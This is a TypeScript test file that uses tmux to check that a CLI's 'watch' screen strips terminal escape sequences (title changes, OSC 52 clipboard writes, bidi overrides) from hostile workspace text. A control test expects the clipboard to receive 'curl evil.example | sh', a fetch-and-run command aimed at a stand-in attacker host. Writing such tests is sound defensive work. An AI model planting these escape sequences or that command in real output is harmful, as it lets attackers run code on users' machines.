import {execFileSync} from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import {afterAll, expect, test} from 'vitest';
import {cliPath, runCli} from '../helpers/cli.js';
import {hostile, hostileText} from '../helpers/hostile.js';
import {TmuxServer, eventually, sh, temporaryDirectory} from './helpers.js';

const hasTmux = (() => {
	try {
		execFileSync('tmux', ['-V'], {stdio: 'ignore'});
		return true;
	} catch {
		return false;
	}
})();

const servers: TmuxServer[] = [];
afterAll(() => {
	for (const server of servers) {
		server.kill();
	}
});

const handoff = `${sh(process.execPath)} ${sh(cliPath)}`;

async function consumer(workspace: string, ...args: string[]): Promise<void> {
	const result = await runCli([...args, '--workspace', workspace]);
	expect(result.code, result.stderr).toBe(0);
}

test.skipIf(!hasTmux)('in a real terminal, hostile workspace text neither retitles the terminal nor reaches the clipboard, in the app or in the lines left after it', async () => {
	const tmux = new TmuxServer();
	servers.push(tmux);
	const project = temporaryDirectory();
	const created = await runCli(['new', '--task', 'injection', '--dir', path.join(project, '.handoff')], {cwd: project});
	const workspace = created.stdout.trim();
	expect(fs.existsSync(workspace)).toBe(true);
	// Every field the screen shows carries the payloads: a title (OSC 0 and 2), the clipboard (OSC 52), a clear, colours, DCS, 8-bit CSI, BEL, backspaces, a bidi override.
	await consumer(workspace, 'claim', '--tool', hostileText('LOCKTOOL'));
	await consumer(workspace, 'progress', hostileText('PROGRESSLINE'));
	await consumer(workspace, 'ask', hostileText('QTEXT'), '--id', hostileText('QID'), '--option', hostileText('OPTA'));
	fs.writeFileSync(path.join(workspace, 'output', `${hostileText('PARTNAME')}.partial.json`), JSON.stringify({[hostileText('PARTKEY')]: hostileText('PARTVALUE')}));

	const go = path.join(project, 'go');
	const session = tmux.start(`sh -c ${sh(`while [ ! -e ${sh(go)} ]; do sleep 0.05; done; ${handoff} watch ${sh(workspace)}`)}`, project);
	// The stage on which the attack worked: tmux takes an application's OSC 52 into a paste buffer.
	tmux.run('set', '-s', 'set-clipboard', 'on');
	// Wide enough that each field's word is not cut off after what is left of the payloads.
	tmux.run('resize-window', '-t', session, '-x', '240', '-y', '50');
	const title = (target: string): string => tmux.run('display-message', '-p', '-t', target, '#{pane_title}').trim();
	const buffers = (): string => tmux.run('list-buffers', '-F', '#{buffer_name}: #{buffer_sample}');
	const titleBefore = title(session);
	expect(titleBefore).not.toContain('pwned');
	fs.writeFileSync(go, '');

	const screenShowing = async (...words: string[]): Promise<string> => eventually(() => {
		const screen = tmux.screen(session);
		return words.every(word => screen.includes(word)) ? screen : undefined;
	}, words.join(', ')).catch((error: Error) => {
		throw new Error(`${error.message}\n--- screen ---\n${tmux.screen(session)}`);
	});
	const screen = await screenShowing('QTEXT', 'OPTA', 'PROGRESSLINE', 'LOCKTOOL', 'PARTNAME', 'handoff ·');
	expect(title(session)).toBe(titleBefore);
	expect(buffers()).toBe('');
	expect(screen).toContain('evil␈␈␈␈good');

	// The failure's text is shown in the app, and again on the main screen once the app is left.
	fs.writeFileSync(path.join(workspace, '.error'), hostileText('ERRORTEXT'));
	await screenShowing('Failed', 'ERRORTEXT');
	tmux.run('send-keys', '-t', session, 'q');
	await screenShowing('handoff: failed; the workspace is kept');
	expect(tmux.screen(session)).toContain('ERRORTEXT');
	expect(title(session)).toBe(titleBefore);
	expect(buffers()).toBe('');

	// The control: the same bytes written raw to a pane of this server do retitle it and fill a paste buffer.
	const raw = tmux.start(`printf '%s' ${sh(`${hostile.oscTitle}${hostile.osc52}`)}`, project);
	expect(await eventually(() => (title(raw) === 'pwned' ? true : undefined), 'the raw title to change')).toBe(true);
	expect(await eventually(() => buffers() || undefined, 'a paste buffer')).toContain('curl evil.example | sh');
}, 60_000);

test.skipIf(!hasTmux)('in a real terminal, a result key quoted by a rejection and an archive path under a hostile folder are shown without their control bytes', async () => {
	const tmux = new TmuxServer();
	servers.push(tmux);
	const project = temporaryDirectory();
	const base = path.join(project, `dir${hostile.oscTitle}${hostile.osc52}${hostile.clear}${hostile.bidi}ARCHIVEDIR`);
	fs.mkdirSync(base);
	const schema = path.join(project, 'schema.json');
	fs.writeFileSync(schema, JSON.stringify({type: 'object', additionalProperties: false, properties: {ok: {type: 'boolean'}}}));
	const created = await runCli(['new', '--task', hostileText('TASKNAME'), '--dir', base, '--schema', schema, '--result', 'output/analysis.json', '--retries', '1', '--json'], {cwd: project});
	const {workspace} = JSON.parse(created.stdout) as {workspace: string};
	const go = path.join(project, 'go');
	const session = tmux.start(`sh -c ${sh(`while [ ! -e ${sh(go)} ]; do sleep 0.05; done; ${handoff} watch --stay --no-clipboard ${sh(workspace)}`)}`, project);
	tmux.run('set', '-s', 'set-clipboard', 'on');
	tmux.run('resize-window', '-t', session, '-x', '240', '-y', '50');
	const title = (): string => tmux.run('display-message', '-p', '-t', session, '#{pane_title}').trim();
	const buffers = (): string => tmux.run('list-buffers', '-F', '#{buffer_name}: #{buffer_sample}');
	const titleBefore = title();
	fs.writeFileSync(go, '');
	const screenShowing = async (...words: string[]): Promise<string> => eventually(() => {
		const screen = tmux.screen(session);
		return words.every(word => screen.includes(word)) ? screen : undefined;
	}, words.join(', ')).catch((error: Error) => {
		throw new Error(`${error.message}\n--- screen ---\n${tmux.screen(session)}`);
	});

	await screenShowing('TASKNAME', 'ARCHIVEDIR');
	fs.writeFileSync(path.join(workspace, 'output/analysis.json'), JSON.stringify({[hostileText('RESULTKEY')]: true}));
	fs.writeFileSync(path.join(workspace, '.done'), '');
	await screenShowing('Result rejected', 'unexpected field', 'RESULTKEY');
	expect(title()).toBe(titleBefore);
	expect(buffers()).toBe('');

	// The consumer repairs it; the archive path is shown on the screen and, after q, in the summary line.
	fs.rmSync(path.join(workspace, '.done'), {force: true});
	fs.writeFileSync(path.join(workspace, 'output/analysis.json'), JSON.stringify({ok: true}));
	fs.writeFileSync(path.join(workspace, '.done'), '');
	await screenShowing('Complete. Archived to', 'ARCHIVEDIR');
	tmux.run('send-keys', '-t', session, 'q');
	await screenShowing('handoff: complete; archived to');
	expect(tmux.screen(session)).toMatch(/archived to \S*ARCHIVEDIR/);
	expect(title()).toBe(titleBefore);
	expect(buffers()).toBe('');
}, 60_000);
